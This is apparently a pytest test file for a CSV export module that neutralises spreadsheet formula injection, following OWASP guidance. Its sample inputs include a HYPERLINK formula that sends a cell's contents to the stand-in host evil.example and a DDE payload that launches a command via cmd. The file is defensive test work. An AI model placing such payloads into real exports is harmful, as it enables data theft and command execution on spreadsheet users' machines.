"""The one CSV writer of every export (core/csvout.py): formula cells neutralised as OWASP "CSV
Injection" recommends (security review: CSV formula injection in renewal and payment exports)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.csvout import (
    CsvWriter,
    csv_line,
    csv_response,
    csv_stream,
    neutralise,
    safe_cell,
    safe_filename,
    safe_row,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
DDE = "@SUM(1+9)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\tplain",  # a leading tab or CR is neutralised whatever follows (OWASP)
        "\r=1+1",
        "\rplain",
        " =1+1",  # some importers trim leading blanks
        "  \t +cmd",
        "\n=1+1",
        "\u00a0=1+1",  # no-break space
        "\uff1d1+1",  # full-width =
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        HYPERLINK,
        DDE,
    ],
)
def test_formula_triggers_are_prefixed_with_a_quote(text):
    """Every OWASP trigger (= + - @ tab CR), also after leading blanks and in full width."""
    assert neutralise(text) == "'" + text
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "plain", "A=1", "1-2", "x@y.example", "'=already quoted", " plain", "Ĺódź"])
def test_harmless_text_is_unchanged(text):
    assert neutralise(text) == text


def test_numbers_the_product_computes_stay_numbers():
    """Credits and refunds may be negative: a Decimal or int is written as it is (a number's text
    cannot call a function); the same characters as text are neutralised."""
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert safe_cell(-3) == -3
    assert safe_cell(Decimal("0.00")) == Decimal("0.00")
    assert safe_cell(-1.5) == -1.5
    assert safe_cell("-12.50") == "'-12.50"
    assert csv_line([Decimal("-12.50"), -3, "-12.50"]) == "-12.50,-3,'-12.50\r\n"


def test_other_values():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"  # a bool is not a number here
    assert safe_cell(date(2026, 11, 23)) == "2026-11-23"
    assert safe_cell(datetime(2026, 11, 23, 12, 0, tzinfo=UTC)) == "2026-11-23T12:00:00+00:00"

    class Odd:
        def __str__(self) -> str:
            return "=cmd"

    assert safe_cell(Odd()) == "'=cmd"  # anything else is text: fail closed


def test_rows_round_trip_through_a_csv_reader():
    """Quotes, separators and line breaks inside a cell stay in the cell (the csv module)."""
    writer = CsvWriter()
    writer.writerow(["a,b", 'say "hi"', "two\nlines", HYPERLINK, None, Decimal("-1.00")])
    writer.writerow([DDE])
    rows = list(csv.reader(io.StringIO(writer.take())))
    assert rows == [["a,b", 'say "hi"', "two\nlines", "'" + HYPERLINK, "", "-1.00"], ["'" + DDE]]
    assert writer.take() == ""  # taken once


async def test_stream_in_partitions_and_response():
    async def rows():
        for i in range(5):
            yield [f"=r{i}", i]

    chunks = [c async for c in csv_stream(["H1", "H2"], rows(), partition=2)]
    assert chunks[0] == "H1,H2\r\n" and len(chunks) == 4  # header, 2 + 2 rows, the last row
    assert list(csv.reader(io.StringIO("".join(chunks))))[1:] == [[f"'=r{i}", str(i)] for i in range(5)]
    response = csv_response("x\r\n", 'schedule-S"1\r\nX: y.csv')
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="schedule-S1Xy.csv"'
    assert safe_filename("\r\n") == "download" and safe_filename("S-Łódź.csv") == "S-d.csv"


CELLS = st.one_of(
    st.text(),
    st.text(alphabet="=+-@\t\r \u00a0\uff1d\uff0b\uff0d\uff20ab1", max_size=4),
    st.integers(),
    st.booleans(),
    st.decimals(allow_nan=False),
    st.floats(allow_nan=False),
    st.none(),
    st.dates(),
)


@given(st.lists(CELLS, max_size=8))
def test_safe_row_is_safe_cell_of_every_value(values):
    """The exports' fast path (issue 21) writes exactly what safe_cell would, for any value."""
    assert safe_row(values) == [safe_cell(v) for v in values]
    assert [type(v) for v in safe_row(values)] == [type(safe_cell(v)) for v in values]
